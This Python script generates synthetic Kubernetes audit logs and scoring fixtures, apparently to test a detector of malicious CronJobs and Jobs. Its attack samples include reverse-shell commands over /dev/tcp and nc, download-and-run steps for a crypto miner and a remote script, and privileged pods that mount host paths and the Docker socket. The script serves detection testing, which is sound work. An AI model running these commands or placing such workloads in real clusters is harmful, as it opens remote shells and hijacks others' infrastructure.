#!/usr/bin/env python3
"""Writes samples/audit.log and the scoring fixtures under src/test/resources/fixtures/score/.

Deterministic: fixed times, ids and names. The events follow what the API server writes (see
shared/docs/k8s-audit-facts.md): both stages of every request, RequestReceived without bodies, compact Go
JSON with the API server's key order, defaulted fields such as terminationMessagePath.
Run from the repository root: python3 samples/make_samples.py
"""
import json
import os
from datetime import datetime, timedelta, timezone

T0 = datetime(2026, 11, 20, 9, 0, 0, tzinfo=timezone.utc)
_seq = [0]


def ts(sec):
    return (T0 + timedelta(seconds=sec)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def audit_id():
    _seq[0] += 1
    return "5a3c%04d-1f2e-4b7a-9c1d-%012d" % (_seq[0], _seq[0])


def container(name, image, command=None, args=None, privileged=None, mounts=None, env=None, caps=None):
    c = {"name": name, "image": image}
    if command is not None:
        c["command"] = command
    if args is not None:
        c["args"] = args
    if env:
        c["env"] = [{"name": k, "value": v} for k, v in env]
    c["resources"] = {}
    if mounts:
        c["volumeMounts"] = [{"name": n, "mountPath": p} for n, p in mounts]
    c["terminationMessagePath"] = "/dev/termination-log"
    c["terminationMessagePolicy"] = "File"
    c["imagePullPolicy"] = "IfNotPresent"
    sc = {}
    if privileged is not None:
        sc["privileged"] = privileged
    if caps:
        sc["capabilities"] = {"add": caps}
    if sc:
        c["securityContext"] = sc
    return c


def pod_spec(containers, volumes=None, host_network=None, restart="OnFailure"):
    s = {}
    if volumes:
        s["volumes"] = volumes
    s["containers"] = containers
    s["restartPolicy"] = restart
    s["terminationGracePeriodSeconds"] = 30
    s["dnsPolicy"] = "ClusterFirst"
    if host_network is not None:
        s["hostNetwork"] = host_network
    s["securityContext"] = {}
    s["schedulerName"] = "default-scheduler"
    return s


def host_path(name, path):
    return {"name": name, "hostPath": {"path": path, "type": ""}}


def cronjob(name, ns, spec, schedule="*/5 * * * *"):
    return {"kind": "CronJob", "apiVersion": "batch/v1",
            "metadata": {"name": name, "namespace": ns, "creationTimestamp": None},
            "spec": {"schedule": schedule, "concurrencyPolicy": "Allow", "suspend": False,
                     "jobTemplate": {"metadata": {"creationTimestamp": None},
                                     "spec": {"template": {"metadata": {"creationTimestamp": None}, "spec": spec}}},
                     "successfulJobsHistoryLimit": 3, "failedJobsHistoryLimit": 1},
            "status": {}}


def job(name, ns, spec, annotations=None):
    meta = {"name": name, "namespace": ns, "creationTimestamp": None}
    if annotations:
        meta["annotations"] = annotations
    return {"kind": "Job", "apiVersion": "batch/v1", "metadata": meta,
            "spec": {"backoffLimit": 6, "template": {"metadata": {"creationTimestamp": None}, "spec": spec}},
            "status": {}}


def request(verb, resource, ns, name, user, sec, body=None, level="RequestResponse", code=None,
            ua="kubectl/v1.30.2 (linux/amd64) kubernetes/3c1c56d", ip="203.0.113.50", groups=None,
            subresource=None, decision="allow", api="batch", uid=None, stages=True, response=None):
    """Both stages of one request, as the API server logs them."""
    aid = audit_id()
    if code is None:
        code = 201 if verb == "create" else 200
    path = "/apis/%s/v1" % api if api else "/api/v1"
    uri = "%s/namespaces/%s/%s" % (path, ns, resource) + ("/" + name if name and verb != "create" else "")
    if subresource:
        uri += "/" + subresource
    ref = {"resource": resource, "namespace": ns}
    if name:
        ref["name"] = name
    ref["apiGroup"] = api
    ref["apiVersion"] = "v1"
    if subresource:
        ref["subresource"] = subresource
    base = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": level, "auditID": aid,
            "stage": "RequestReceived", "requestURI": uri, "verb": verb,
            "user": {"username": user, "groups": groups or ["system:authenticated"]},
            "sourceIPs": [ip], "userAgent": ua, "objectRef": ref,
            "requestReceivedTimestamp": ts(sec), "stageTimestamp": ts(sec)}
    out = []
    if stages:
        out.append(dict(base))
    done = dict(base)
    done["stage"] = "ResponseComplete"
    del done["requestReceivedTimestamp"], done["stageTimestamp"]
    done["responseStatus"] = {"metadata": {}, "code": code}
    if code >= 400:
        done["responseStatus"].update({"status": "Failure", "reason": "Forbidden"})
    if level in ("Request", "RequestResponse") and body is not None:
        done["requestObject"] = body
    if level == "RequestResponse" and response is not None:
        done["responseObject"] = response
    done["requestReceivedTimestamp"] = ts(sec)
    done["stageTimestamp"] = ts(sec + 0.012)
    done["annotations"] = {"authorization.k8s.io/decision": decision, "authorization.k8s.io/reason": ""}
    out.append(done)
    return out


def noise(sec):
    """Irrelevant traffic: a lease update, a get and a watch, as they dominate real clusters."""
    lease = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": audit_id(),
             "stage": "ResponseComplete",
             "requestURI": "/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/node-1?timeout=10s",
             "verb": "update", "user": {"username": "system:node:node-1", "groups": ["system:nodes", "system:authenticated"]},
             "sourceIPs": ["10.0.0.11"], "userAgent": "kubelet/v1.30.2 (linux/amd64) kubernetes/3c1c56d",
             "objectRef": {"resource": "leases", "namespace": "kube-node-lease", "name": "node-1",
                           "apiGroup": "coordination.k8s.io", "apiVersion": "v1"},
             "responseStatus": {"metadata": {}, "code": 200},
             "requestReceivedTimestamp": ts(sec), "stageTimestamp": ts(sec + 0.003),
             "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""}}
    get = dict(lease, auditID=audit_id(), verb="get", requestURI="/api/v1/namespaces/default/configmaps/app",
               objectRef={"resource": "configmaps", "namespace": "default", "name": "app", "apiVersion": "v1"})
    watch = dict(lease, auditID=audit_id(), verb="watch", stage="ResponseStarted",
                 requestURI="/apis/batch/v1/cronjobs?watch=true",
                 objectRef={"resource": "cronjobs", "apiGroup": "batch", "apiVersion": "v1"})
    return [lease, get, watch]


ALICE = "alice@example.com"
METRICS_SYNC_UID = "0d6f2b1a-5c3e-4f4a-9e7b-2a1c3d4e5f60"
MALLORY = "system:serviceaccount:ci:deployer"


def attack_cases(sec):
    """The four Atomic Red Team-style cases named by the seed queries' testing methodology."""
    ev = []
    rs = cronjob("metrics-sync", "prod", pod_spec([container("sync", "alpine:3.19", ["/bin/sh", "-c"],
                 ["bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"])]), "*/10 * * * *")
    rs_resp = json.loads(json.dumps(rs))
    rs_resp["metadata"]["uid"] = METRICS_SYNC_UID
    ev += request("create", "cronjobs", "prod", "metrics-sync", MALLORY, sec, rs,
                  ua="python-requests/2.31.0", ip="198.51.100.23", response=rs_resp)
    pj = job("node-debug", "default", pod_spec([container("debug", "busybox:1.36", ["sleep", "3600"], privileged=True,
             mounts=[("host-etc", "/host/etc")])], volumes=[host_path("host-etc", "/etc")], restart="Never"))
    ev += request("create", "jobs", "default", "node-debug", ALICE, sec + 20, pj)
    ds = cronjob("registry-cleanup", "build", pod_spec([container("cleanup", "docker:24-cli",
                 ["docker", "system", "prune", "-af"], mounts=[("sock", "/var/run/docker.sock")])],
                 volumes=[host_path("sock", "/var/run/docker.sock")]), "0 * * * *")
    ev += request("create", "cronjobs", "build", "registry-cleanup", ALICE, sec + 40, ds)
    mn = cronjob("cache-warmer", "web", pod_spec([container("warm", "ubuntu:22.04", ["/bin/bash", "-c"],
                 ["curl -fsSL http://203.0.113.9/xmr -o /tmp/kworker && chmod +x /tmp/kworker && /tmp/kworker -o stratum+tcp://pool.example.net:3333"])]),
                 "*/1 * * * *")
    ev += request("create", "cronjobs", "web", "cache-warmer", MALLORY, sec + 60, mn,
                  ua="Go-http-client/1.1", ip="198.51.100.23")
    return ev


def benign_cases(sec):
    """Look-alikes that must raise nothing."""
    ev = []
    nopriv = cronjob("report-builder", "analytics", pod_spec([container("report", "registry.example.com/analytics/report:2.4",
                     ["/app/report"], ["--out", "/reports"], privileged=False)]), "30 2 * * *")
    ev += request("create", "cronjobs", "analytics", "report-builder", ALICE, sec, nopriv)
    backup = cronjob("pg-backup", "db", pod_spec([container("pg-dump", "postgres:16", ["/bin/sh", "-c"],
                     ["pg_dump -h db.db.svc -U backup appdb | gzip > /backup/appdb-$(date +%F).sql.gz"],
                     mounts=[("backup", "/backup"), ("cfg", "/etc/pg")])],
                     volumes=[{"name": "backup", "persistentVolumeClaim": {"claimName": "pg-backups"}},
                              {"name": "cfg", "configMap": {"name": "pg-client"}}]), "0 3 * * *")
    ev += request("create", "cronjobs", "db", "pg-backup", ALICE, sec + 10, backup)
    status = {"kind": "CronJob", "apiVersion": "batch/v1", "metadata": {"name": "pg-backup", "namespace": "db"},
              "status": {"lastScheduleTime": ts(sec + 15)}}
    ev += request("update", "cronjobs", "db", "pg-backup", "system:serviceaccount:kube-system:cronjob-controller",
                  sec + 20, status, subresource="status", ua="kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3c1c56d/system:serviceaccount:kube-system:cronjob-controller",
                  ip="10.0.0.10")
    return ev


def other_kinds(sec):
    """An unscored workload (Metadata level hides the spec) and a refused attempt."""
    ev = []
    ev += request("create", "cronjobs", "payments", "ledger-export", "bob@example.com", sec, None, level="Metadata")
    denied = cronjob("miner", "kube-system", pod_spec([container("m", "xmrig/xmrig:6.21", ["xmrig"],
                     ["-o", "stratum+tcp://pool.example.net:3333"], privileged=True)]), "*/1 * * * *")
    ev += request("create", "cronjobs", "kube-system", "miner", "eve@example.com", sec + 5, denied, code=403,
                  decision="forbid", ip="198.51.100.99", ua="kubectl/v1.29.0 (darwin/arm64) kubernetes/abc")
    return ev


CRONJOB_CONTROLLER = "system:serviceaccount:kube-system:cronjob-controller"
JOB_CONTROLLER = "system:serviceaccount:kube-system:job-controller"
KCM_UA = "kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3c1c56d/system:serviceaccount:kube-system:%s"


def spawn_chain(cronjob_name, ns, cronjob_uid, pod_spec_body, fire_sec):
    """What the controllers write when a CronJob fires: a Job named <cronjob>-<minutes>, then its Pod."""
    minutes = int((T0 + timedelta(seconds=fire_sec)).timestamp()) // 60
    job_name = "%s-%d" % (cronjob_name, minutes)
    job_uid = "7b1e%04d-0000-4000-8000-%012d" % (fire_sec, fire_sec)
    owner = [{"apiVersion": "batch/v1", "kind": "CronJob", "name": cronjob_name, "uid": cronjob_uid,
              "controller": True, "blockOwnerDeletion": True}]
    job_body = {"kind": "Job", "apiVersion": "batch/v1",
                "metadata": {"name": job_name, "namespace": ns, "creationTimestamp": None, "ownerReferences": owner,
                             "annotations": {"batch.kubernetes.io/cronjob-scheduled-timestamp": S_ts(fire_sec)}},
                "spec": {"template": {"metadata": {"creationTimestamp": None}, "spec": pod_spec_body}}, "status": {}}
    job_resp = json.loads(json.dumps(job_body))
    job_resp["metadata"]["uid"] = job_uid
    ev = request("create", "jobs", ns, None, CRONJOB_CONTROLLER, fire_sec, job_body, response=job_resp,
                 ua=KCM_UA % "cronjob-controller", ip="10.0.0.10")
    pod_owner = [{"apiVersion": "batch/v1", "kind": "Job", "name": job_name, "uid": job_uid, "controller": True,
                  "blockOwnerDeletion": True}]
    labels = {"batch.kubernetes.io/controller-uid": job_uid, "batch.kubernetes.io/job-name": job_name,
              "controller-uid": job_uid, "job-name": job_name}
    pod_body = {"kind": "Pod", "apiVersion": "v1",
                "metadata": {"generateName": job_name + "-", "namespace": ns, "creationTimestamp": None, "labels": labels,
                             "ownerReferences": pod_owner, "finalizers": ["batch.kubernetes.io/job-tracking"]},
                "spec": pod_spec_body, "status": {}}
    pod_resp = json.loads(json.dumps(pod_body))
    pod_resp["metadata"]["name"] = job_name + "-x7k2p"
    pod_resp["metadata"]["uid"] = "9c2d%04d-0000-4000-8000-%012d" % (fire_sec, fire_sec)
    ev += request("create", "pods", ns, None, JOB_CONTROLLER, fire_sec + 1, pod_body, response=pod_resp,
                  ua=KCM_UA % "job-controller", ip="10.0.0.10", api="")
    return ev


def S_ts(sec):
    return ts(sec)


def lines(events):
    return [json.dumps(e, separators=(",", ":")) for e in events]


def write(path, rows):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        for r in rows:
            f.write(r + "\n")


def main():
    attacks = attack_cases(100)
    benign = benign_cases(300)
    others = other_kinds(400)
    sample = []
    sample += lines(noise(0))
    sample += lines(attacks)
    sample += lines(noise(200))
    sample += lines(benign)
    sample += lines(others)
    # An EventList batch as the webhook backend posts it, holding noise and one more suspicious Job.
    batch_job = job("hostnet-probe", "default", pod_spec([container("probe", "nicolaka/netshoot:v0.13",
                    ["sh", "-c"], ["nc -e /bin/sh 198.51.100.7 9001"])], host_network=True, restart="Never"))
    items = noise(500) + request("create", "jobs", "default", "hostnet-probe", ALICE, 505, batch_job)
    # The reverse-shell CronJob (created at 09:01:40, schedule */10) fires at 09:10: its Job and Pod make
    # it an escalation. A Job spawned for a CronJob created before this log began is an orphan.
    rs_spec = attacks[1]["requestObject"]["spec"]["jobTemplate"]["spec"]["template"]["spec"]
    chain = spawn_chain("metrics-sync", "prod", METRICS_SYNC_UID, rs_spec, 600)
    orphan_spec = pod_spec([container("sync", "alpine:3.19", ["/bin/sh", "-c"], ["wget -qO- http://203.0.113.9/m.sh | sh"],
                                      mounts=[("host", "/host")])], volumes=[host_path("host", "/")])
    orphan = spawn_chain("node-exporter-sync", "monitoring", "4e5f6a7b-0000-4000-8000-000000000001", orphan_spec, 660)
    sample.append(json.dumps({"kind": "EventList", "apiVersion": "audit.k8s.io/v1", "metadata": {}, "items": items},
                             separators=(",", ":")))
    sample += lines(chain + orphan)
    sample.append('{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"broken-line","stage":"ResponseComplete","verb":"create","objectRef":{"resource":"cronjobs"')
    write("samples/audit.log", sample)
    write("src/test/resources/fixtures/score/attacks.jsonl", lines([e for e in attacks if e["stage"] == "ResponseComplete"]))
    write("src/test/resources/fixtures/score/benign.jsonl", lines([e for e in benign if e["stage"] == "ResponseComplete"]))
    write("src/test/resources/fixtures/score/other-kinds.jsonl", lines([e for e in others if e["stage"] == "ResponseComplete"]))


if __name__ == "__main__":
    main()
